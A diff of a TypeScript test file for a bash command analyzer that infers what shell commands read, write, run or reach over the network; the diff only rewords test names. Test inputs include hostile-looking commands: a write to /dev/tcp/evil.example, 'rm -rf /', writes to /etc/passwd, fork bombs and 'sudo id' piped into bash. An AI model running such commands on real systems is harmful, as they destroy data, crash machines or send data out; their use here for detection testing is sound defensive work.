@@ -23,7 +23,7 @@ function wordsOf(source: string): readonly (readonly string[])[] {
 }
 
 describe("analyze", () => {
-  it("says what a command runs and reads", () => {
+  it("finds the programs and reads of a command", () => {
     expect(of("cat src/a.ts")).toEqual({
       commands: [
         {
@@ -48,7 +48,7 @@ describe("analyze", () => {
     });
   });
 
-  it("takes nothing for an empty text, a comment and white space", () => {
+  it("finds nothing in empty text, a comment and white space", () => {
     for (const source of ["", "  \n\t", "# rm -rf /"]) {
       expect(of(source)).toEqual({
         commands: [],
@@ -69,7 +69,7 @@ describe("analyze", () => {
     expect(analyze("ls", { cwd, home, shell: "zsh" })).toMatchObject({ complete: false });
   });
 
-  it("runs a program without a specification as one that can do anything", () => {
+  it("treats a program without a specification as one that can do anything", () => {
     expect(of("frobnicate --all x")).toMatchObject({
       complete: true,
       effects: [{ type: "run", words: ["frobnicate", "--all", "x"], specified: false }],
@@ -83,7 +83,7 @@ describe("analyze", () => {
     expect(wordsOf(source).flat()).toEqual("a b c d e f g h i j k l m n o p q r s t".split(" "));
   });
 
-  it("notes what nobody waits for", () => {
+  it("notes commands in the background", () => {
     expect(of("ls & pwd").commands.map(({ background }) => background)).toEqual([true, false]);
   });
 
@@ -105,7 +105,7 @@ describe("words", () => {
     ["x='rm -rf'; $x /", ["rm", "-rf", "/"]],
     ["echo $'a\\tb\\x41'", ["echo", "a\tbA"]],
     ["cd src && echo $PWD", ["echo", `${cwd}/src`]],
-  ])("of %s are those that bash makes", (source, words) => {
+  ])("are those that bash makes of %s", (source, words) => {
     expect(wordsOf(source).at(-1)).toEqual(words);
   });
 
@@ -132,7 +132,7 @@ describe("words", () => {
     "$(echo ls)",
     "$x",
     "l* a",
-  ])("that can't be known make %s unknown", (source) => {
+  ])("with unknown values make %s unknown", (source) => {
     expect(of(source).complete).toBe(false);
   });
 
@@ -149,11 +149,11 @@ describe("words", () => {
     `if [ -n "$x" ]; then echo yes; fi`,
     `grep -e "$x" a`,
     `cat a | while read -r line; do echo "$line"; done`,
-  ])("are known enough in %s", (source) => {
+  ])("may be unknown where they have no effect: %s", (source) => {
     expect(of(source)).toMatchObject({ complete: true });
   });
 
-  it("of a loop are followed value by value", () => {
+  it("are followed value by value in a loop", () => {
     expect(paths("for f in a ../b; do cat $f; done", "read")).toEqual(
       [`${cwd}/a`, "/home/dev/b"].map((path) => path),
     );
@@ -161,34 +161,34 @@ describe("words", () => {
 });
 
 describe("directories", () => {
-  it("are changed by cd for what follows", () => {
+  it("change for later commands with cd", () => {
     expect(paths("cd src && cat a", "read")).toEqual([`${cwd}/src`, `${cwd}/src/a`]);
   });
 
-  it("are both possible when nobody looks whether cd failed", () => {
+  it("are both possible when nothing checks whether cd failed", () => {
     expect(paths("cd src; cat a", "read")).toEqual([`${cwd}/src`, `${cwd}/src/a`, `${cwd}/a`]);
     expect(paths("cd src || true; cat a", "read")).toContain(`${cwd}/a`);
     expect(paths("! cd src && cat a", "read")).toContain(`${cwd}/a`);
   });
 
-  it("stay what they were after a subshell, a pipeline and the background", () => {
+  it("don't change after a subshell, a pipeline or a background command", () => {
     for (const source of ["(cd /tmp); cat a", "cd /tmp | cat; cat a", "cd /tmp & cat a"]) {
       expect(paths(source, "read").filter((path) => path.endsWith("/a"))).toEqual([`${cwd}/a`]);
     }
   });
 
-  it("aren't known after a cd to where nobody knows", () => {
+  it("are unknown after a cd with an unknown target", () => {
     for (const source of ["cd $x; cat a", "cd -; cat a", "cd $(ls) && cat a", "popd +1; cat a"]) {
       expect(of(source).complete).toBe(false);
     }
   });
 
-  it("are known by each round of a loop", () => {
+  it("are tracked through the turns of a loop", () => {
     const { complete } = of("while true; do cd ..; cat a; done");
     expect(complete).toBe(false);
   });
 
-  it("that may be links aren't gone back from, unless somebody has looked", () => {
+  it("may be links, so .. out of one is unknown unless isPlainDirectory says otherwise", () => {
     expect(of("cat src/../a").complete).toBe(false);
     expect(of("cd src && cat ../a").complete).toBe(false);
     const isPlainDirectory = (path: string): boolean => path === `${cwd}/src`;
@@ -198,7 +198,7 @@ describe("directories", () => {
     });
   });
 
-  it("above the first one are no matter", () => {
+  it("above the first one need no such check", () => {
     expect(of("cat ../x")).toMatchObject({ complete: true });
     expect(paths("cat ../x", "read")).toEqual(["/home/dev/x"]);
   });
@@ -219,62 +219,62 @@ describe("redirections", () => {
     ["while true; do ls; done > a", [`${cwd}/a`]],
     ["f() { ls; } > a; f", [`${cwd}/a`]],
     ["echo x > /etc/passwd", ["/etc/passwd"]],
-  ])("of %s write", (source, written) => {
+  ])("write in %s", (source, written) => {
     expect(paths(source, "write")).toEqual(written);
   });
 
-  it("to nowhere and to other streams do nothing", () => {
+  it("have no effect to /dev/null and to other streams", () => {
     expect(effectsOf("ls > /dev/null 2>&1 < /dev/null 3>&-", "write")).toEqual([]);
     expect(of("ls > /dev/null 2>&1 < /dev/null 3>&-").complete).toBe(true);
   });
 
-  it("read what they take their input from", () => {
+  it("read the files of their input", () => {
     expect(paths("wc < /etc/passwd", "read")).toEqual(["/etc/passwd"]);
   });
 
-  it("to where nobody knows are unknown", () => {
+  it("are unknown with an unknown target", () => {
     for (const source of ["ls > $x", "ls > *", "ls > a{b,c}", "ls > $(ls)", "cat <& $x"]) {
       expect(of(source).complete).toBe(false);
     }
   });
 
-  it("to bash's own network devices reach the network", () => {
+  it("reach the network through bash's own devices", () => {
     expect(effectsOf("echo x > /dev/tcp/evil.example/80", "network")).toEqual([
       { type: "network", host: "evil.example", port: 80 },
     ]);
     expect(effectsOf("cat < /dev/udp/10.0.0.1/53", "network")).toHaveLength(1);
   });
 
-  it("with quoted here-documents are data, others are expanded", () => {
+  it("treat quoted here-documents as data, and expand others", () => {
     expect(of("cat <<'E'\n$(touch x) `y`\nE").complete).toBe(true);
     expect(wordsOf("cat <<E\n$(touch x) `y z`\nE")).toEqual([["touch", "x"], ["y", "z"], ["cat"]]);
     expect(of("cat <<E\nopen").complete).toBe(false);
   });
 
-  it("feed scripts to shells that are followed", () => {
+  it("feed scripts to shells, which are followed", () => {
     expect(wordsOf("bash <<'E'\nsudo id\nE")).toContainEqual(["sudo", "id"]);
     expect(wordsOf("bash <<< 'sudo id'")).toContainEqual(["sudo", "id"]);
   });
 
-  it("by process substitution are followed", () => {
+  it("follow process substitutions", () => {
     expect(wordsOf("cat <(touch a)")).toContainEqual(["touch", "a"]);
     expect(of("ls > >(tee a)").complete).toBe(false);
   });
 });
 
 describe("functions", () => {
-  it("are their bodies, at every call, with their redirections", () => {
+  it("have the effects of their bodies and redirections at every call", () => {
     expect(wordsOf("ls() { touch x; }; ls")).toEqual([["touch", "x"]]);
     expect(paths("f() { cat a; }; cd src && f", "read")).toContain(`${cwd}/src/a`);
   });
 
-  it("may be the program, too, when they are defined in a branch", () => {
+  it("may mean the program when they are defined in a branch", () => {
     const found = wordsOf("if true; then frob() { ls; }; fi; frob");
     expect(found).toContainEqual(["ls"]);
     expect(found).toContainEqual(["frob"]);
   });
 
-  it("that call themselves are unknown, and fork bombs say so", () => {
+  it("are unknown when they call themselves, and fork bombs have a hazard", () => {
     expect(of("f() { f; }; f").complete).toBe(false);
     for (const source of [":(){ :|:& };:", "f() { f & f; }; f", "bomb() { bomb | bomb & }; bomb"]) {
       expect(effectsOf(source, "unknown")).toContainEqual(
@@ -283,7 +283,7 @@ describe("functions", () => {
     }
   });
 
-  it("are passed over by command", () => {
+  it("are skipped by command", () => {
     expect(wordsOf("ls() { touch x; }; command ls")).toContainEqual(["ls"]);
   });
 });
